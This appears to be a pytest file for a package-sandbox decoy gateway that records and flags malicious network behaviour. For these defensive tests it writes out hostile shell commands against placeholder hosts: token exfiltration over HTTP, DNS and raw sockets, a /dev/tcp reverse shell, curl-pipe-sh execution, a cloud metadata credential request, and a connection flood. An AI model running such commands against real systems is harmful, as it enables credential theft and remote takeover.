"""The gateway on real namespaces: what a box sends is answered, recorded, searched."""

from __future__ import annotations

import base64
import os
import signal
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from package_hunter.confine import UIDS
from package_hunter.decoy.gateway import Gateway
from package_hunter.decoy.spec import Limits, Upstream
from package_hunter.model.observation import NetworkLog
from package_hunter.model.registry import RegistryAllow
from tests.support.netpair import NetPair
from tests.support.played import CANARIES, ENV, LocalIndex, LocalRegistry

Start = Callable[..., Gateway]
Play = Callable[[dict[str, dict[str, dict[str, str]]]], LocalRegistry]


def ca(gateway: Gateway) -> dict[str, str]:
    return {"CURL_CA_BUNDLE": str(gateway.names_path.parent / "ca.pem"), **ENV}


def kinds(log: NetworkLog) -> set[str]:
    return {mark.kind for mark in log.marks}


def test_every_name_port_and_family_is_answered_and_recorded(pair: NetPair, gateway: Start) -> None:
    g = gateway()
    done = pair.run(
        "curl -sS https://collect.example/x -d secret=1 && curl -sS http://203.0.113.5:8080/ "
        "&& curl -sS -6 https://six.example/ && curl -sS 'http://[2001:db8::5]:81/' "
        "&& (echo hello > /dev/udp/192.0.2.9/9999) && (echo raw > /dev/tcp/192.0.2.7/4444) && sleep 0.3",
        ca(g),
    )
    assert done.returncode == 0, done.stderr
    log = g.stop()
    assert [(r.method, r.url, r.body) for r in log.requests][:2] == [
        ("POST", "https://collect.example/x", b"secret=1"),
        ("GET", "http://203.0.113.5:8080/", b""),
    ]
    by_port = {(c.protocol, c.port): c for c in log.connections}
    assert by_port["tcp", 443].sni in ("collect.example", "six.example")
    assert by_port["tcp", 4444].head == b"raw\n" and by_port["tcp", 4444].name is None
    assert by_port["udp", 9999].head == b"hello\n"
    assert by_port["tcp", 81].address == "2001:db8::5"
    assert "198.18.1.1\tcollect.example" in g.names_path.read_text()


def test_made_up_names_do_not_exist_and_those_of_the_box_do(pair: NetPair, gateway: Start) -> None:
    g = gateway(stands=lambda labels: labels == ("q8xk2v9wp3",))
    answers = {
        name: pair.run(f"curl -sS http://{name}/", ca(g)).returncode
        for name in ("zz4fzyo82mvyr.example", "nobody.invalid", "q8xk2v9wp3.example", "collect.example")
    }
    assert answers == {
        "zz4fzyo82mvyr.example": 6,  # curl: could not resolve the host
        "nobody.invalid": 6,
        "q8xk2v9wp3.example": 0,
        "collect.example": 0,
    }
    asked = {record.name: record.answer for record in g.stop().dns}
    assert asked["zz4fzyo82mvyr.example"] == asked["nobody.invalid"] == "NXDOMAIN"


def test_what_was_sent_counts_from_when_the_last_of_it_came(pair: NetPair, gateway: Start) -> None:
    """A request may be opened long before its body is sent, and before what is in the body was read."""
    g = gateway()
    done = pair.run(
        "exec 3<>/dev/tcp/203.0.113.5/8080; "
        "printf 'POST /x HTTP/1.1\\r\\nHost: a.example\\r\\nContent-Length: 3\\r\\n\\r\\n' >&3; "
        "sleep 0.2; printf abc >&3; head -n 1 <&3; exec 3>&-; exec 4<>/dev/tcp/192.0.2.7/4444; "
        "printf one >&4; sleep 0.2; printf two >&4; sleep 0.2; exec 4>&-; sleep 0.2",
        ca(g),
    )
    assert done.returncode == 0, done.stderr
    log = g.stop()
    (request,) = (r for r in log.requests if r.body == b"abc")
    assert request.time_ns < request.sent_ns
    (raw,) = (c for c in log.connections if c.head == b"onetwo")
    assert raw.time_ns < raw.sent_ns


def test_the_gateway_process_has_no_rights(gateway: Start) -> None:
    g = gateway()
    facts = dict(
        line.split(":\t", 1)
        for line in Path(f"/proc/{g.pid}/status").read_text().splitlines()
        if ":\t" in line
    )
    assert facts["Uid"].split() == [str(UIDS["gateway"])] * 4
    assert {int(facts[key], 16) for key in ("CapPrm", "CapEff", "CapBnd", "CapInh", "CapAmb")} == {0}
    assert facts["Seccomp"] == "2" and facts["NoNewPrivs"] == "1"


def test_theft_is_proven_by_channel_and_encoding(pair: NetPair, gateway: Start) -> None:
    g = gateway()
    token = base64.b64encode(ENV["GITHUB_TOKEN"].encode()).decode()
    hexed = ENV["AWS_SECRET_ACCESS_KEY"].encode().hex()
    pieces = " ".join(hexed[i : i + 10] for i in range(0, len(hexed), 10))
    pair.run(
        f"curl -sS https://a.example/x -d t=$NPM_TOKEN; curl -sS 'http://b.example/?q={token}';"
        f"for p in {pieces}; do getent hosts $p.c.example > /dev/null; done;"
        'curl -sS -H "X-Key: $AWS_ACCESS_KEY_ID" http://d.example/;'
        "echo $NPM_TOKEN > /dev/tcp/192.0.2.1/9000; echo $NPM_TOKEN > /dev/udp/192.0.2.1/9001; sleep 0.3",
        ca(g),
    )
    hits = {(h.channel, h.encoding, h.destination) for h in g.stop().hits if not h.lawful}
    assert hits >= {
        ("http-body", (), "a.example:443"),
        ("http-url", ("base64",), "b.example:80"),
        ("dns", ("pieces", "hex"), "c.example:53"),
        ("http-header", (), "d.example:80"),
        ("tcp", (), "192.0.2.1:9000"),
        ("udp", (), "192.0.2.1:9001"),
    }


def test_a_download_that_is_executed_calls_home_and_one_that_is_not_does_not(
    pair: NetPair, gateway: Start
) -> None:
    g = gateway()
    done = pair.run(
        "cd $(mktemp -d) && curl -sS http://s.example/install.sh | sh; curl -sSo app http://bin.example/app;"
        "chmod +x app; ./app; echo $?; curl -sS http://kept.example/unused.sh -o unused.sh; rm -rf $PWD",
        ca(g),
    )
    assert done.stdout == "0\n"
    marks = [m for m in g.stop().marks if m.kind == "remote_code_execution"]
    assert {m.destination for m in marks} == {"s.example:80", "bin.example:80"}


def test_services_answer_as_the_real_ones(pair: NetPair, gateway: Start, registry: Play) -> None:
    local = registry({})
    g = gateway(upstreams=(Upstream("npm", local.url),))
    host = local.url.removeprefix("http://").rstrip("/").partition(":")[0]
    done = pair.run(
        "curl -sS http://169.254.169.254/latest/meta-data/iam/security-credentials/r;"
        f"curl -sS -X PUT -H 'Host: {host}' http://192.0.2.5/mine -d '{{}}';"
        "curl -sS -X POST https://api.github.com/user/repos -d '{}';"
        "curl -sS https://hooks.slack.com/services/T/B/x -d text=hi;"
        "timeout 6 bash -c 'exec 3<>/dev/tcp/192.0.2.7/4444; sh <&3 >&3 2>&3';"
        "timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.9/3333;"
        ' echo "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\"}" >&3; head -1 <&3\'',
        ca(g),
    )
    log = g.stop()
    assert kinds(log) >= {
        "cloud_metadata",
        "registry_publish",
        "repository_change",
        "mining",
        "reverse_shell_command",
    }
    assert "SecretAccessKey" in done.stdout and '"success":true' in done.stdout
    assert local.asked == []  # nothing of it reached the registry


def test_only_what_the_tree_needs_reaches_the_registry_with_the_hosts_credentials(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    local = registry({"a": {"1.0.0": {"b": "^1"}}, "b": {"1.0.0": {}}, "other": {"1.0.0": {}}})
    g = gateway(upstreams=(Upstream("npm", local.url, auth="Bearer hosts-own-secret"),))
    g.allow(RegistryAllow("npm", frozenset({"a"})))
    header = "-H 'Host: 127.0.0.1' -H \"Authorization: Bearer $NPM_TOKEN\""
    done = pair.run(
        f"for p in a b other a/-/a-1.0.0.tgz a/-/a-1.0.0.tgz?leak=1 b/-/b-1.0.0.tgz; do"
        f" curl -sS -o /dev/null -w '%{{http_code}} ' {header} http://192.0.2.5/$p; done",
        ca(g),
    )
    assert done.stdout.split() == ["200", "200", "404", "200", "404", "200"]
    log = g.stop()
    assert {auth for _, _, auth in local.asked} == {"Bearer hosts-own-secret"}
    assert not any("other" in path or "leak" in path for _, path, _ in local.asked)
    assert "registry_channel" in kinds(log)
    assert all(h.lawful for h in log.hits) and log.hits
    written = b"".join(p.read_bytes() for p in g.names_path.parent.parent.rglob("*") if p.is_file())
    assert b"hosts-own-secret" not in written


def test_a_manager_that_decides_gets_what_it_asks_for_until_the_tree_is_frozen(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    local = registry({"a": {"1.0.0": {}}, "b": {"1.0.0": {}, "2.0.0": {}}, "c": {"1.0.0": {}}})
    g = gateway(upstreams=(Upstream("npm", local.url),))
    g.allow(RegistryAllow("npm", frozenset({"a"}), closed=True, manager_decides=True))
    get = "curl -sS -o /dev/null -w '%{http_code} ' -H 'Host: 127.0.0.1' http://192.0.2.5"
    asked = "b b/-/b-1.0.0.tgz not-there -/v1/search"
    done = pair.run(f"for p in {asked}; do {get}/$p; done", ca(g))
    assert done.stdout.split() == ["200", "200", "404", "404"]
    g.freeze()
    asked = "b b/-/b-1.0.0.tgz b/-/b-2.0.0.tgz c c/-/c-1.0.0.tgz"
    done = pair.run(f"for p in {asked}; do {get}/$p; done", ca(g))
    assert done.stdout.split() == ["200", "200", "404", "404", "404"]
    log = g.stop()
    told = [mark.evidence["url"].rpartition(":")[2] for mark in log.marks if mark.kind == "registry_channel"]
    assert all("b-2.0.0" in url or "/c" in url for url in told) and len(told) == 2
    assert not any("/c" in path for _, path, _ in local.asked)


def test_a_scopes_package_never_comes_from_another_registry(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    public = registry({"@corp/lib": {"9.9.9": {}}, "a": {"1.0.0": {}}})
    private = registry({})
    g = gateway(
        upstreams=(
            Upstream("npm", public.url),
            Upstream("npm", private.url, default=False, scopes=("@corp",)),
        )
    )
    g.allow(RegistryAllow("npm", frozenset({"@corp/lib", "a"})))
    done = pair.run(
        "for p in @corp%2flib a; do"
        " curl -sS -o /dev/null -w '%{http_code} ' -H 'Host: 127.0.0.1' http://192.0.2.5/$p; done",
        ca(g),
    )
    assert done.stdout.split() == ["404", "200"]
    assert not any("corp" in path for _, path, _ in public.asked)
    assert any("corp" in path for _, path, _ in private.asked)


def test_a_second_name_is_answered_by_the_registry_itself_and_a_lock_files_name_is_none(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    local = registry({"a": {"1.0.0": {}}, "other": {"1.0.0": {}}})
    one = Upstream("npm", local.url, second_names=("https://second.example/",))
    one = replace(one, stands_for=("https://replaced.example/",), auth="Bearer hosts-own-secret")
    g = gateway(upstreams=(one,))
    locked = "https://stranger.example/a/-/a-1.0.0.tgz"
    proven = {locked: local.integrity("a")}
    g.allow(RegistryAllow("npm", frozenset({"a"}), urls=frozenset({locked}), proven=proven))
    get = "curl -sS -o /dev/null -w '%{http_code} ' -H \"Authorization: Bearer $NPM_TOKEN\""
    done = pair.run(
        f"for p in a a/-/a-1.0.0.tgz other; do {get} https://second.example/$p; done;"
        f"{get} https://replaced.example/a; {get} {locked}; {get} https://stranger.example/a",
        ca(g),
    )
    assert done.stdout.split()[:5] == ["200", "200", "404", "200", "200"]
    log = g.stop()
    assert {auth for _, _, auth in local.asked} == {"Bearer hosts-own-secret"}
    assert not any("other" in path for _, path, _ in local.asked)
    assert {m.destination for m in log.marks if m.kind == "registry_channel"} == {"second.example:443"}
    lawful = {h.destination: h.lawful for h in log.hits}
    assert lawful == {
        "second.example:443": True,
        "replaced.example:443": False,
        "stranger.example:443": False,
    }


def test_a_strangers_file_is_answered_only_where_the_lock_file_proves_it_to_be_the_registrys(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    local = registry({name: {"1.0.0": {}} for name in ("plain", "same", "other")})
    g = gateway(upstreams=(Upstream("npm", local.url),))
    urls = {
        name: f"https://stranger.example/{name}/-/{name}-1.0.0.tgz" for name in ("plain", "same", "other")
    }
    proven = {urls["same"]: local.integrity("same"), urls["other"]: local.integrity("same")}
    by_name = {
        "plain@1.0.0": local.integrity("plain")
    }  # of another place in the tree: says nothing of this one
    allow = RegistryAllow("npm", frozenset(urls), True, by_name, frozenset(urls.values()), proven)
    g.allow(allow)
    get = "curl -sS -o /dev/null -w '%{http_code} ' -A npm/10.0.0"
    done = pair.run(
        f"for n in plain same other; do {get} https://stranger.example/$n/-/$n-1.0.0.tgz; done", ca(g)
    )
    assert done.stdout.split() == ["403", "200", "403"]
    fetched = {f.url: f for f in g.stop().fetched}
    assert fetched[urls["plain"]].refused and fetched[urls["other"]].refused
    assert fetched[urls["same"]].stood_in == "127.0.0.1" and not fetched[urls["same"]].refused
    assert not any("plain" in path for _, path, _ in local.asked)


def test_a_python_indexs_second_name_leads_to_the_index_and_asks_it_for_nothing_else(
    pair: NetPair, gateway: Start
) -> None:
    local = LocalIndex({})
    one = Upstream("pypi", f"{local.url}x/simple/", stands_for=("https://public.example/simple/",))
    g = gateway(upstreams=(one,))
    g.allow(RegistryAllow("pypi", frozenset({"six"})))
    code = "curl -sS -o /dev/null -w '%{http_code} %{redirect_url}\\n' https://public.example"
    try:
        done = pair.run(
            f"for p in simple/six/ simple/other/ simple/six/?q=1 legacy/; do {code}/$p; done", ca(g)
        )
        log = g.stop()
    finally:
        local.close()
    answers = [line.split() for line in done.stdout.splitlines()]
    assert answers[0] == ["302", f"{local.url}x/simple/six/"]
    assert [answer[0] for answer in answers[1:]] == ["404"] * 3
    assert {path for _, path, _ in local.asked} == {"/x/simple/six/"}
    assert "registry_channel" in kinds(log)


def test_a_wrong_digest_is_marked_and_never_cached_and_offline_serves_the_cache(
    pair: NetPair, gateway: Start, registry: Play
) -> None:
    local = registry({"a": {"1.0.0": {}}, "b": {"1.0.0": {}}})
    upstreams = (Upstream("npm", local.url),)
    fetch = "curl -sS -o /dev/null -w '%{http_code} ' -H 'Host: 127.0.0.1' http://192.0.2.5/"
    g = gateway(upstreams=upstreams)
    g.allow(RegistryAllow("npm", frozenset({"a", "b"})))
    pair.run(f"{fetch}a; {fetch}b; {fetch}a/-/a-1.0.0.tgz", ca(g))
    local.tarballs["b@1.0.0"] = b"swapped"
    pair.run(f"{fetch}b/-/b-1.0.0.tgz", ca(g))
    assert "integrity_mismatch" in kinds(g.stop())
    asked = len(local.asked)
    g = gateway(upstreams=upstreams, offline=True)
    g.allow(RegistryAllow("npm", frozenset({"a", "b"})))
    done = pair.run(f"{fetch}a; {fetch}a/-/a-1.0.0.tgz; {fetch}b/-/b-1.0.0.tgz", ca(g))
    assert done.stdout.split() == ["200", "200", "403"]
    assert len(local.asked) == asked


_FLOOD = """
import os, socket, sys, time
held = []
for n in range(400):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("192.0.2.30", 80))
    except BlockingIOError: pass
    held.append(s)
time.sleep(1)
for s in held:
    try: s.send(b"GET / HT")
    except OSError: pass
for bad in (b"\\x16\\x03\\x01\\x00\\x05hello", b"GET \\x00 nonsense\\r\\n\\r\\n",
            b"POST / HTTP/1.1\\r\\nhost: x\\r\\ntransfer-encoding: chunked\\r\\n\\r\\nZZ\\r\\n"):
    s = socket.create_connection(("192.0.2.31", 443)); s.send(bad); s.settimeout(5)
    try: s.recv(100)
    except OSError: pass
for n in range(3000):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(os.urandom(40), ("10.88.0.1", 53))
    u.close()
"""


def test_floods_and_broken_protocols_cut_only_themselves(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    (tmp_path / "flood.py").write_text(_FLOOD)
    g = gateway(limits=Limits(connections=100, records=500))
    pair.run(f"python3 {tmp_path}/flood.py", ca(g))
    done = pair.run("curl -sS -m 10 https://after.example/ok -d still=here", ca(g))
    assert done.returncode == 0, done.stderr
    log = g.stop()
    assert any(r.url == "https://after.example/ok" for r in log.requests)
    assert log.cut["connections_dropped"] >= 200
    assert log.cut["malformed_http"] >= 2 and log.cut["failed_tls"] >= 1 and log.cut["malformed_dns"] >= 500
    assert "gateway_errors" not in log.cut and "gateway_failed" not in log.cut


_BROKEN_SSH = """
import socket
s = socket.create_connection(("192.0.2.40", 22))
s.settimeout(10)
s.send(b"SSH-2.0-OpenSSH_9.2\\r\\n")
print(s.recv(8))
s.send(bytes(1200))
try:
    while s.recv(4096):
        pass
except ConnectionResetError:
    pass
print("let go")
"""


def test_ssh_is_greeted_and_nonsense_let_go_without_a_wait(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    (tmp_path / "ssh.py").write_text(_BROKEN_SSH)
    g = gateway()
    done = pair.run(f"python3 {tmp_path}/ssh.py", ca(g))
    assert done.stdout.splitlines() == ["b'SSH-2.0-'", "let go"], done.stderr
    (seen,) = g.stop().connections
    assert seen.head.startswith(b"SSH-2.0-OpenSSH_9.2") and seen.port == 22


def test_a_killed_gateway_leaves_what_it_saw(pair: NetPair, gateway: Start) -> None:
    g = gateway()
    pair.run("curl -sS http://seen.example/before", ca(g))
    os.kill(g.pid, signal.SIGKILL)
    log = g.stop()
    assert [r.url for r in log.requests] == ["http://seen.example/before"]
    assert log.cut["gateway_failed"] == 1


def test_canaries_are_there() -> None:
    assert {c.kind for c in CANARIES} >= {
        "npm-token",
        "aws-secret",
        "ssh-key",
        "github-token",
        "metadata-aws-secret",
    }
